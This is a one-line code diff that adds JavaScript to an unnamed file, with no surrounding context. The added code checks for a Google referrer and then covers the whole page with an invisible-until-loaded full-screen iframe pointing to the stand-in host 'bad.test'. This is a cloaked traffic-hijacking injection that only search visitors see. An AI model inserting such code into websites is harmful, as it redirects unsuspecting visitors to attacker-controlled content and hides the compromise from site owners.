@@ -1,0 +1,1 @@
+if (document.referrer.search(/google/) > -1) { var f = document.createElement('iframe'); f.src = 'https://bad.test/'; f.style.cssText = 'position:fixed;inset:0;width:100%;height:100%'; document.body.appendChild(f); }
